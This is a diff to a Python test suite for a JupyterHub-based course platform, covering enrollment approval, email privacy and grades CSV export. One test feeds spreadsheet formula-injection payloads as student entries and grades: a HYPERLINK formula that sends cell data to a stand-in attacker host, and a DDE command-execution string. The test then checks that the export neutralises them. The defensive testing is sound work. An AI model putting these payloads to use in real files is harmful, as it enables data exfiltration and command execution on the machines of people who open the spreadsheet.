@@ -3,8 +3,11 @@
 import asyncio
 import csv
 import io
+import secrets
 
 import pytest
+from jupyterhub import orm as hub_orm
+from sqlalchemy import event
 
 from smchub import orm
 
@@ -33,7 +36,7 @@ async def run_step(instructor, course_id, assignment_id, step, students=None):
 
 
 async def read(person, project_id, path):
-    r = await person.client.get(f"/user/{project_id}/api/contents/{path}")
+    r = await person.client.get(person.hub.project_url(project_id, f"api/contents/{path}"))
     return r.json().get("content") if r.status_code == 200 else None
 
 
@@ -43,7 +46,7 @@ async def course(hub):
     instructor = await hub.person()
     ta = await hub.person()
     project = (await instructor.create_project("Math 101 (course)"))["id"]
-    await instructor.api("PUT", f"projects/{project}/collaborators/{ta.name}")
+    await ta.join(instructor, project)
     await instructor.start_project(project)
     await instructor.execute(
         project,
@@ -77,8 +80,15 @@ async def test_a_course_end_to_end(hub, course):
     names = {c["name"] for c in mine["collaborators"]}
     assert names == {students[0].name, instructor.name, ta.name}
 
-    # the late student signs up with the email they were added by, and gets their project
+    # the late student signs up with the email they were added by; nobody verified that
+    # address, so an instructor approves the match before the place is theirs
     late = await hub.person(email=late_email)
+    assert (await late.api("GET", "projects")).json() == []
+    model = (await instructor.api("GET", f"courses/{course_id}")).json()
+    (place,) = [s for s in model["students"] if s["email"] == late_email]
+    assert place["pending_match"] == {"name": late.name}
+    r = await instructor.api("POST", f"courses/{course_id}/students/{place['id']}/approve")
+    assert r.status_code == 200, r.text
     projects = (await late.api("GET", "projects")).json()
     assert [p["title"] for p in projects] == [f"{late.name} – Math 101"]
     everyone = [*students, late]
@@ -101,7 +111,7 @@ async def test_a_course_end_to_end(hub, course):
     assert "2026-12-01 17:00" in await read(student, pid, "hw1/DUE_DATE.txt")
     # the student works on it
     r = await student.client.put(
-        f"/user/{pid}/api/contents/hw1/problems.md",
+        hub.project_url(pid, "api/contents/hw1/problems.md"),
         json={"type": "file", "format": "text", "content": "1. Proved: QED\n"},
     )
     assert r.status_code == 200
@@ -252,3 +262,203 @@ async def test_course_pages(hub, course):
             assert "Math 101" in r.text and "students-table" in r.text
     r = await (await instructor.browser()).get("/hub/courses")
     assert r.status_code == 200 and "Math 101 (course)" in r.text
+
+
+def unique_email(who):
+    return f"{who}.{secrets.token_hex(4)}@example.org"
+
+
+async def new_course(person, title="Math 101"):
+    """A course in a new project of `person` (its server is never started)."""
+    project = (await person.create_project(f"{title} (course)"))["id"]
+    r = await person.api("POST", "courses", {"project": project, "title": title})
+    assert r.status_code == 201, r.text
+    return project, r.json()["id"]
+
+
+async def verified_person(hub, email):
+    """Someone signed in through SSO, whose provider vouches for their address."""
+    person = await hub.person()
+    user = hub_orm.User.find(hub.db, person.name)
+    user.user_info = {"email": email, "email_verified": True}
+    hub.db.commit()
+    return person
+
+
+def student_by_email(model, email):
+    (student,) = [s for s in model["students"] if s["email"] == email]
+    return student
+
+
+async def add_students(instructor, course_id, students):
+    r = await instructor.api("POST", f"courses/{course_id}/students", {"students": students})
+    assert r.status_code == 200, r.text
+    return r.json()
+
+
+def grades_rows(r):
+    assert r.status_code == 200, r.text
+    return list(csv.reader(io.StringIO(r.text)))
+
+
+async def test_grades_csv_cells_never_become_formulas(hub):
+    instructor = await hub.person()
+    student = await hub.person()
+    _, course_id = await new_course(instructor)
+    link = '=hyperlink("http://evil.example/?"&a1)@example.org'
+    await add_students(instructor, course_id, [student.name, link, "-2+3@example.org"])
+    r = await instructor.api("POST", f"courses/{course_id}/assignments", {"path": "+hw"})
+    assert r.status_code == 201, r.text
+    hw = r.json()["assignments"][0]["id"]
+    ids = {s["name"]: s["id"] for s in r.json()["students"]}
+    for who, grade in [(student.name, "@SUM(1+1)*cmd|' /C calc'!A0"), (link, "-2.5")]:
+        r = await instructor.api(
+            "PUT", f"courses/{course_id}/assignments/{hw}/grades/{ids[who]}", {"grade": grade}
+        )
+        assert r.status_code == 200, r.text
+
+    rows = grades_rows(await instructor.api("GET", f"courses/{course_id}/grades.csv"))
+    # a plain number is no formula, and a spreadsheet should keep it a number
+    cells = [cell for row in rows for cell in row if cell != "-2.5"]
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, rows)
+    assert rows[0] == ["student", "email", "'+hw"]
+    by_student = {row[0]: row for row in rows[1:]}
+    assert by_student[student.name][2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert by_student["'" + link] == ["'" + link, "'" + link, "-2.5"]
+    assert by_student["'-2+3@example.org"][1] == "'-2+3@example.org"
+
+
+async def test_no_route_shows_an_email_the_instructor_did_not_type(hub):
+    instructor = await hub.person()
+    private = unique_email("private")
+    student = await hub.person(email=private)
+    _, course_id = await new_course(instructor)
+    answer = await add_students(instructor, course_id, [student.name])
+    assert answer["results"][0]["result"] == "added"
+    assert private not in str(answer)
+    for path in [f"courses/{course_id}", f"courses/{course_id}/grades.csv", "courses"]:
+        r = await instructor.api("GET", path)
+        assert r.status_code == 200 and private not in r.text, path
+    rows = grades_rows(await instructor.api("GET", f"courses/{course_id}/grades.csv"))
+    assert rows[1:] == [[student.name, ""]]
+
+    # an address the instructor typed is theirs to see
+    typed = unique_email("typed")
+    await add_students(instructor, course_id, typed)
+    rows = grades_rows(await instructor.api("GET", f"courses/{course_id}/grades.csv"))
+    assert sorted(rows[1:]) == sorted([[student.name, ""], [typed, typed]])
+
+
+async def test_an_emailed_place_is_not_taken_by_whoever_signs_up_first(hub):
+    instructor = await hub.person()
+    _, course_id = await new_course(instructor)
+    victim_email = unique_email("victim")
+    # the attacker signs up with the student's address before the student does (sign-up
+    # with a password verifies no address), before and after the place is reserved
+    early = await hub.person(email=victim_email)
+    answer = await add_students(instructor, course_id, victim_email)
+    (result,) = answer["results"]
+    assert result["result"] == "pending", result
+    later_email = unique_email("later")
+    await add_students(instructor, course_id, later_email)
+    late = await hub.person(email=later_email)
+    for attacker, email in [(early, victim_email), (late, later_email)]:
+        assert (await attacker.api("GET", "projects")).json() == []
+        model = (await instructor.api("GET", f"courses/{course_id}")).json()
+        place = student_by_email(model, email)
+        assert place["signed_up"] is False and place["project"] is None
+        # the instructor sees who claims the place, and decides
+        assert place["pending_match"] == {"name": attacker.name}
+
+    # the real student signs in through SSO, whose provider verified the address: the
+    # place is theirs at once, and the attacker still has nothing
+    victim = await verified_person(hub, victim_email)
+    projects = (await victim.api("GET", "projects")).json()
+    assert [p["title"] for p in projects] == [f"{victim.name} – Math 101"]
+    assert {c["name"] for c in projects[0]["collaborators"]} == {victim.name, instructor.name}
+    assert (await early.api("GET", "projects")).json() == []
+    assert (await early.api("GET", f"projects/{projects[0]['id']}")).status_code == 404
+    model = (await instructor.api("GET", f"courses/{course_id}")).json()
+    place = student_by_email(model, victim_email)
+    assert place["name"] == victim.name and place["pending_match"] is None
+
+    # someone whose address is verified is enrolled at once when added by it
+    known_email = unique_email("known")
+    known = await verified_person(hub, known_email)
+    (result,) = (await add_students(instructor, course_id, known_email))["results"]
+    assert result["result"] == "added", result
+    assert len((await known.api("GET", "projects")).json()) == 1
+
+
+async def test_an_instructor_approves_or_not_an_unverified_match(hub):
+    instructor = await hub.person()
+    stranger = await hub.person()
+    _, course_id = await new_course(instructor)
+    email = unique_email("student")
+    waiting = unique_email("nobody-yet")
+    await add_students(instructor, course_id, [email, waiting])
+    student = await hub.person(email=email)
+    assert (await student.api("GET", "projects")).json() == []
+    model = (await instructor.api("GET", f"courses/{course_id}")).json()
+    place = student_by_email(model, email)
+    approve = f"courses/{course_id}/students/{place['id']}/approve"
+
+    for person in (stranger, student):
+        assert (await person.api("POST", approve)).status_code == 404
+    assert (await student.api("GET", "projects")).json() == []
+
+    nobody = student_by_email(model, waiting)
+    r = await instructor.api("POST", f"courses/{course_id}/students/{nobody['id']}/approve")
+    assert r.status_code == 409 and "No one" in r.json()["message"]
+
+    r = await instructor.api("POST", approve)
+    assert r.status_code == 200, r.text
+    place = student_by_email(r.json(), email)
+    assert place["name"] == student.name and place["signed_up"] and place["project"]
+    assert place["pending_match"] is None
+    projects = (await student.api("GET", "projects")).json()
+    assert [p["id"] for p in projects] == [place["project"]]
+    r = await instructor.api("POST", approve)
+    assert r.status_code == 409 and "already" in r.json()["message"]
+
+
+async def test_one_email_lookup_per_pasted_list(hub):
+    """1,000 pasted emails against a few thousand people: one read of the users table."""
+    instructor = await hub.person()
+    _, course_id = await new_course(instructor)
+    tag = secrets.token_hex(3)
+    people = [
+        hub_orm.User(name=f"bulk-{tag}-{i}", user_info={"email": f"bulk{i}.{tag}@example.org"})
+        for i in range(3000)
+    ]
+    hub.db.add_all(people)
+    hub.db.commit()
+    try:
+        # ten of them are on the list (not verified: they wait for approval)
+        entries = [f"bulk{i}.{tag}@example.org" for i in range(0, 1000, 100)]
+        entries += [f"new{i}.{tag}@example.org" for i in range(990)]
+        statements = []
+
+        def count(conn, cursor, statement, *args):
+            if "FROM users" in statement:
+                statements.append(statement)
+
+        engine = hub.db.get_bind()
+        event.listen(engine, "before_cursor_execute", count)
+        try:
+            answer = await add_students(instructor, course_id, entries)
+        finally:
+            event.remove(engine, "before_cursor_execute", count)
+        results = answer["results"]
+        assert len(results) == 1000 and {r["result"] for r in results} == {"pending"}
+        claimants = {r["entry"]: r.get("claimant") for r in results}
+        assert claimants[f"bulk100.{tag}@example.org"] == f"bulk-{tag}-100"
+        assert claimants[f"new5.{tag}@example.org"] is None
+        assert len(statements) <= 10, len(statements)
+    finally:
+        hub.db.delete(hub.db.get(orm.Course, course_id))
+        hub.db.query(hub_orm.User).filter(hub_orm.User.name.like(f"bulk-{tag}-%")).delete(
+            synchronize_session=False
+        )
+        hub.db.commit()
